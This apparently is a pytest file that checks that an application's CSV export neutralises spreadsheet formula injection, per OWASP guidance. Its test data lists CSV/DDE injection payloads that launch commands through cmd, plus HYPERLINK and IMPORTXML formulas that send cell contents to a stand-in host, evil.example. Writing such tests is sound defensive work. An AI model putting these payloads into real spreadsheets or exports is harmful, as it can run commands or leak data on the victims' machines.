"""No cell of a table is a formula in a spreadsheet.

The rules are those of OWASP: Application Security Verification Standard 5.0, 1.2.10 (`=`, `+`, `-`, `@`, tab and null
at the beginning get a single quote), and the page "CSV Injection" with its payloads (also line ends, full-width forms,
and separators in the middle of a text), from memory."""

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest

from companion.exports.spreadsheet import to_csv
from tests.commands import companion

PAYLOADS = (
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "=cmd|' /C calc'!A0",
    "=cmd|'/c calc'!A1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example?v=",CONCATENATE(A2:E2)),"//a/a10")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "＝cmd|' /C calc'!A0",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "﹦1+1",
)

TITLE = "=cmd|'/c calc'!A1"


def read(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "before",
    ["", " ", "\t", "\r", "\n", "\r\n", "\0", "\u00a0", "\u200b", "\ufeff", "\u2060", "\u202e", " \n\ufeff\t "],
)
def test_a_formula_is_text_whatever_stands_unseen_before_it(payload: str, before: str) -> None:
    ((cell,),) = read(to_csv(["x"], [[before + payload]]))[1:]
    assert cell.startswith("'")
    assert cell.replace("'", "") == (before + payload).replace("'", ""), "nothing else of it is changed"


@pytest.mark.parametrize("delimiter", [";", "\t"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nor_is_it_one_where_cells_end_otherwise(delimiter: str, payload: str) -> None:
    """Where the decimal sign is a comma, spreadsheets separate cells by semicolons; pasted, by tabs."""
    text = "\n".join(["said", f"so{delimiter}{payload}", f"so{delimiter} {payload}", payload])
    rows = read(to_csv(["n", "x"], [["1", text], [payload, text]]), delimiter)
    cells = [cell.lstrip(' "') for row in rows for cell in row]
    assert len(cells) > 5
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦")] == []


@pytest.mark.parametrize("first", ["\t", "\r", "\n", "\0"])
def test_what_is_dropped_from_the_beginning_is_kept_behind_a_quote(first: str) -> None:
    assert read(to_csv(["x"], [[f"{first}said"]]))[1] == [f"'{first}said"]


def test_numbers_stay_numbers_and_words_words() -> None:
    row = [-5, 0, -1.5, Decimal("-0.18"), "-0.18", "-5", "18 units", "two seven; (hidden)", "a - b", "x=1"]
    assert read(to_csv(["x"], [row]))[1] == [str(each) for each in row]
    assert read(to_csv(["x"], [[None, True, False, ""]]))[1] == ["", "true", "false", ""]
    for no_number in ("-5+1", "-5;", "--5", "-", "-.5", "-５", "-1e9", "-5\n"):
        assert read(to_csv(["x"], [[no_number]]))[1][0].startswith("'"), no_number


def test_a_title_that_is_a_formula_arrives_as_text(tmp_path: Path) -> None:
    """It is allowed in a procedure; the table of steps and the one over a folder hold it as text."""
    procedure = (Path(__file__).parents[1] / "data" / "short.yaml").read_text(encoding="utf-8")
    procedure = procedure.replace("title: Tray\n", f"title: {json.dumps(TITLE)}\n")
    path = tmp_path / "formulas.yaml"
    path.write_text(procedure, encoding="utf-8")

    def left(*words: str, typed: str = "") -> int:
        return companion(*words, home=tmp_path / "home", typed=typed).returncode

    assert left("check", str(path)) == 0
    records = tmp_path / "records"
    guide = ("guide", str(path), "--keyboard", "--silent", "--performer", "41", "--records", str(records))
    left(*guide, typed="tray is complete\nstop\n")
    (record,) = records.glob("*.jsonl")
    assert left("export", str(record), "--to", "csv") == 0
    assert left("export", str(records), "--to", "csv") == 0
    for table in (record.with_name(f"{record.name}.steps.csv"), records / "all.steps.csv"):
        found = list(csv.DictReader(io.StringIO(table.read_text(encoding="utf-8"), newline="")))
        assert [row["title"] for row in found] == [f"'{TITLE}"]
